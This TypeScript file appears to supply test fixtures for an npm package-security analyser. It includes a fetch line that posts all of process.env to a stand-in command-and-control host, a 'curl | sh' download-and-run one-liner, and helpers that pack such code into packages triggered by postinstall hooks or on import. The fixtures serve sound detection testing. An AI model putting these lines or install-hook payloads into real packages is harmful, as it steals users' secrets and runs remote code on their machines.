import { type TarballBuilder, tarball } from '@weir/testkit/archive';

/** Sends the environment away: `malicious` wherever the analysis sees it run. */
export const STEAL = `fetch('https://c2.weir.test', { method: 'POST', body: JSON.stringify(process.env) });\n`;
/** The same from a shell. */
export const STEAL_SHELL = 'curl -s https://c2.weir.test/x | sh';
/** A package.json whose install script starts the payload. */
export const HOOKED = manifest({ scripts: { postinstall: 'node setup.js' } });
/** A package.json whose import loads the payload. */
export const IMPORTED = manifest({ main: 'index.js' });

/** A package.json with these fields. */
export function manifest(fields: Readonly<Record<string, unknown>>): string {
  return JSON.stringify({ name: 'hostile', version: '1.0.0', ...fields });
}

/** A package of these files, to be added to. */
export function pack(files: Readonly<Record<string, string | Uint8Array>>): TarballBuilder {
  const builder = tarball();
  for (const [path, content] of Object.entries(files)) builder.file(`package/${path}`, content);
  return builder;
}

/** A package whose install script runs this code. */
export function hooked(code: string | Uint8Array, more: Readonly<Record<string, string>> = {}): Buffer {
  return pack({ 'package.json': HOOKED, 'setup.js': code, ...more }).build();
}

/** A package whose import runs this code. */
export function imported(code: string | Uint8Array, more: Readonly<Record<string, string>> = {}): Buffer {
  return pack({ 'package.json': IMPORTED, 'index.js': code, ...more }).build();
}

/** A text of its own for each number, so that nothing can be told by being the same. */
export function numbered(count: number, text: (index: number) => string): string {
  return Array.from({ length: count }, (_, index) => text(index)).join('');
}
